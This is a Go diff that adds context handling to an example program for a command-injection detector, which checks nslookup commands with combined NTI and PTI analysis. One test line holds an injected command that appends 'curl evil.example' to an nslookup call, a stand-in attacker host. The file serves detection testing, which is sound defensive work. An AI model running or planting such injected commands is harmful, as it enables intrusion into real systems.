@@ -6,6 +6,7 @@
 package main
 
 import (
+	"context"
 	"fmt"
 	"log"
 	"strings"
@@ -21,6 +22,7 @@ func main() {
 }
 
 func run() error {
+	ctx := context.Background()
 	// The program's command-building fragments (what PTI trusts).
 	guard := oscmd.New([]string{
 		"nslookup ",
@@ -42,7 +44,10 @@ func run() error {
 	}
 	for _, c := range cases {
 		cmd := "nslookup -timeout=2 " + c.host
-		v := guard.Check(cmd, []nti.Input{{Source: "get", Name: "host", Value: c.host}})
+		v, err := guard.Check(ctx, cmd, []nti.Input{{Source: "get", Name: "host", Value: c.host}})
+		if err != nil {
+			return err
+		}
 		fmt.Printf("=== %s ===\n", c.label)
 		fmt.Printf("command: %q\n", cmd)
 		if v.Attack {
@@ -57,8 +62,11 @@ func run() error {
 	}
 
 	// Second-order: the payload came from storage, not this request.
-	v := guard.Check("nslookup -timeout=2 example.com; curl evil.example",
+	v, err := guard.Check(ctx, "nslookup -timeout=2 example.com; curl evil.example",
 		[]nti.Input{{Source: "get", Name: "page", Value: "diagnostics"}})
+	if err != nil {
+		return err
+	}
 	fmt.Printf("second-order command (inputs unrelated): NTI=%v PTI=%v hybrid=%v\n",
 		v.NTI.Attack, v.PTI.Attack, v.Attack)
 	if !v.Attack {
